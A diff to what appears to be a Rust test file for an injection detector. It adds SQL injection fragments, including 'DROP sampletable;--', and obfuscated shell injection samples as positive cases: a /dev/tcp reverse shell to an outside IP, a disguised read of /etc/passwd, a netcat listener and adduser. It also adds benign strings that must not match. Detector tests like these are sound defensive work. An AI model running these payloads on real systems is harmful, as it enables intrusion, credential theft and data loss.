@@ -372,6 +372,29 @@ const POSITIVE: &[(u32, &[&str])] = &[
             "c\\u006fnsole.info.call(this,1)",
         ],
     ),
+    (
+        1026,
+        &[
+            "pay=AND 7639=(",
+            "x= ( SELECT 1",
+            "id'is not-id--",
+            "' xor abcdefg!",
+            "DROP sampletable;--",
+        ],
+    ),
+    (
+        4019,
+        &[
+            "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
+            ";ex dddd +silent",
+            "garb=adduse[r];$garb pizza",
+            "{n$u,-nlvp,777}",
+            "'wh'oami",
+            "time ifconfig",
+            "cat /[e//]tc/[p//]asswd",
+            "alias eennvv=env&eennvv whoami",
+        ],
+    ),
     (1019, &["admin@example.com';", "x' -- c", "1\u{2019};--"]),
     (
         1020,
@@ -561,6 +584,11 @@ const HONEST: &[&str] = &[
     "I'm angry >(",
     "Binary search in bin/ folders is fast",
     "Time flies -- or does it?",
+    "It's not like we didn't try",
+    "Price (incl. VAT) as usual from us",
+    "Tickets: $10; $5 for kids",
+    "whoami is a command on Linux",
+    "function greet(){ return 'hi' }",
     "console.log(\"hello\")",
     "See https://www.example.org/about and mail info@example.org",
 ];
